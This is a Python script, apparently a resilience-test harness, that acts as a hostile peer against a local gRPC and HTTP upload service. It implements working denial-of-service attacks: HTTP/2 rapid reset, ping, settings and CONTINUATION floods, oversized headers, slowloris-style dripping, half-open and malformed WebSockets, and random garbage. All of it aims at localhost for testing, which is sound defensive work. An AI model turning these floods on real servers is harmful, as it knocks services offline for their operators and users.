"""``python attackers.py NAME GRPC_PORT HTTP_PORT SECONDS [FILE_ID]``: a hostile peer, in a process of its own.

Prints how often it struck as JSON when its time is up.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

from h2.connection import H2Connection
from hpack import Encoder, NeverIndexedHeaderTuple

_HEADERS, _RST, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_BATCH = 100


class Target:
    """Whom to attack, until when."""

    def __init__(self, grpc_port: int, http_port: int, seconds: float, file_id: str) -> None:
        self.grpc_port = grpc_port
        self.http_port = http_port
        self.file_id = file_id
        self.counts: Counter[str] = Counter()
        self._end = time.monotonic() + seconds

    @property
    def over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() > self._end

    @property
    def left(self) -> float:
        """Seconds that are left."""
        return max(0.0, self._end - time.monotonic())


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def call_headers(path: str, *more: tuple[str, str]) -> bytes:
    """A header block that can be sent on every stream: nothing in it is indexed."""
    plain = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    )
    return Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in plain], huffman=False)


async def _http2(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", target.grpc_port)
    greeting = H2Connection()
    greeting.initiate_connection()
    writer.write(greeting.data_to_send())
    target.counts["connections"] += 1
    return reader, writer


async def _again_and_again(target: Target, strike: Callable[[Target], Awaitable[None]]) -> None:
    """A server may throw the peer out; it comes back."""
    while not target.over:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, TimeoutError):
            async with asyncio.timeout(target.left + 1):
                await strike(target)


async def _pour(target: Target, batch: Callable[[int], bytes], name: str, most: int = 1 << 62) -> None:
    """Send batches on one connection as fast as they are taken, reading whatever comes."""
    reader, writer = await _http2(target)
    reading = asyncio.create_task(reader.read(-1))
    sent = 0
    try:
        while not target.over and not reading.done() and sent < most:
            writer.write(batch(sent))
            await writer.drain()
            sent += _BATCH
            target.counts[name] += _BATCH
            await asyncio.sleep(0)
    finally:
        reading.cancel()
        writer.transport.abort()


async def rapid_reset(target: Target) -> None:
    """Streams that are opened and reset at once."""
    block = call_headers("/upload.v1.UploadService/UploadFile")
    reset = struct.pack("!I", 8)

    def batch(sent: int) -> bytes:
        streams = range(2 * sent + 1, 2 * (sent + _BATCH) + 1, 2)
        return b"".join(frame(_HEADERS, _END_HEADERS, i, block) + frame(_RST, 0, i, reset) for i in streams)

    await _again_and_again(target, lambda _: _pour(target, batch, "streams reset"))


async def ping_flood(target: Target) -> None:
    """Pings that all want an answer."""
    pings = frame(_PING, 0, 0, b"8 bytes.") * _BATCH
    await _again_and_again(target, lambda _: _pour(target, lambda _: pings, "pings"))


async def settings_flood(target: Target) -> None:
    """Settings that all want an answer."""
    settings = frame(_SETTINGS, 0, 0, struct.pack("!HI", 4, 65535)) * _BATCH
    await _again_and_again(target, lambda _: _pour(target, lambda _: settings, "settings"))


async def header_flood(target: Target) -> None:
    """A header block that never ends."""
    piece = Encoder().encode([NeverIndexedHeaderTuple("x-flood", "a" * 8000)], huffman=False)

    def batch(sent: int) -> bytes:
        start = frame(_HEADERS, 0, 1, call_headers("/upload.v1.UploadService/GetFile")) if sent == 0 else b""
        return start + frame(_CONTINUATION, 0, 1, piece) * _BATCH

    await _again_and_again(target, lambda _: _pour(target, batch, "headers"))


async def huge_metadata(target: Target) -> None:
    """Calls with 12 KiB of metadata each, and with 60."""

    def batch(sent: int) -> bytes:
        frames = []
        for i in range(2 * sent + 1, 2 * (sent + _BATCH) + 1, 2):
            value = "a" * (12_000 if i % 4 == 1 else 60_000)
            block = call_headers("/upload.v1.UploadService/GetFile", ("x-huge", value))
            pieces = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
            frames.append(frame(_HEADERS, _END_STREAM | (_END_HEADERS if len(pieces) == 1 else 0), i, pieces[0]))
            for k, each in enumerate(pieces[1:], 2):
                frames.append(frame(_CONTINUATION, _END_HEADERS if k == len(pieces) else 0, i, each))
        return b"".join(frames)

    await _again_and_again(target, lambda _: _pour(target, batch, "huge calls"))


async def deaf_watchers(target: Target) -> None:
    """Watches of everything, over gRPC and HTTP, that are never read."""
    block = call_headers("/upload.v1.UploadService/WatchStatus")
    everything = b"\x00" + struct.pack("!I", 2) + b"\x20\x01"
    writers = []
    for _ in range(20):
        reader, writer = await _http2(target)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        for i in range(1, 40, 2):
            writer.write(frame(_HEADERS, _END_HEADERS, i, block) + frame(0, _END_STREAM, i, everything))
            target.counts["watches"] += 1
        writers.append(writer)
        reader, writer = await asyncio.open_connection("127.0.0.1", target.http_port)
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"GET /api/v1/watch?all=true HTTP/1.1\r\nHost: localhost\r\n\r\n")
        target.counts["watches"] += 1
        writers.append(writer)
    await asyncio.sleep(target.left)
    for writer in writers:
        writer.transport.abort()


async def slow_drip(target: Target) -> None:
    """Requests whose heads come byte by byte."""

    async def one() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.http_port)
        target.counts["connections"] += 1
        with contextlib.suppress(OSError):
            for byte in b"GET /api/v1/files HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 10_000:
                if target.over or reader.at_eof():
                    break
                writer.write(bytes([byte]))
                await asyncio.sleep(0.05)
        writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(200)))


def _handshake(file_id: str) -> bytes:
    return (
        f"GET /api/v1/upload/ws/{file_id} HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ).encode()


async def half_open_sockets(target: Target) -> None:
    """More WebSockets than there may be, of which nothing is heard any more; and half of a handshake each."""
    writers = []
    for i in range(200):
        _, writer = await asyncio.open_connection("127.0.0.1", target.http_port)
        greeting = _handshake(target.file_id)
        writer.write(greeting if i % 2 else greeting[:-10])
        target.counts["sockets"] += 1
        writers.append(writer)
    await asyncio.sleep(target.left)
    for writer in writers:
        writer.transport.abort()


_LIES: tuple[bytes, ...] = (
    # Masked, binary, of 2^63 - 1 bytes; of 2^64 - 1; of 1 GiB; text of 70 KiB that says so in 64 bits.
    b"\x82\xff" + struct.pack("!Q", (1 << 63) - 1) + b"mask" + b"a" * 1000,
    b"\x82\xff" + struct.pack("!Q", (1 << 64) - 1) + b"mask" + b"a" * 1000,
    b"\x82\xff" + struct.pack("!Q", 1 << 30) + b"mask" + b"a" * 1000,
    b"\x81\xff" + struct.pack("!Q", 70_000) + b"mask" + b"a" * 1000,
    # Unmasked; with reserved bits; an unknown kind; a fragmented ping; a ping of 200 bytes; a continuation of nothing.
    b"\x82\x05abcde",
    b"\xf2\x85maskabcde",
    b"\x83\x85maskabcde",
    b"\x09\x80mask",
    b"\x89\xfe\x00\xc8mask" + b"a" * 200,
    b"\x80\x85maskabcde",
    # A close frame of one byte, and one with a code that must not be sent.
    b"\x88\x81maska",
    b"\x88\x82mask" + bytes(a ^ b for a, b in zip(struct.pack("!H", 1006), b"ma", strict=True)),
)


async def lying_sockets(target: Target) -> None:
    """WebSockets whose frames are not what they say."""
    turn = 0

    async def strike(_target: Target) -> None:
        nonlocal turn
        reader, writer = await asyncio.open_connection("127.0.0.1", target.http_port)
        try:
            writer.write(_handshake(target.file_id))
            async with asyncio.timeout(5):
                await reader.readuntil(b"\r\n\r\n")
            lie, turn = _LIES[turn % len(_LIES)], turn + 1
            writer.write(lie)
            target.counts["lies"] += 1
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.2):
                    await reader.read(-1)
        finally:
            writer.transport.abort()

    await asyncio.gather(*(_again_and_again(target, strike) for _ in range(10)))


async def garbage(target: Target) -> None:
    """Bytes that are nothing, to both ports."""

    async def strike(_target: Target) -> None:
        for port in (target.grpc_port, target.http_port):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(os.urandom(4000))
            await writer.drain()
            target.counts["connections"] += 1
            writer.transport.abort()

    await _again_and_again(target, strike)


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        settings_flood,
        header_flood,
        huge_metadata,
        deaf_watchers,
        slow_drip,
        half_open_sockets,
        lying_sockets,
        garbage,
    )
}


async def _main(name: str, grpc_port: str, http_port: str, seconds: str, file_id: str = "") -> None:
    target = Target(int(grpc_port), int(http_port), float(seconds), file_id)
    await ATTACKS[name](target)
    print(json.dumps(target.counts))


if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
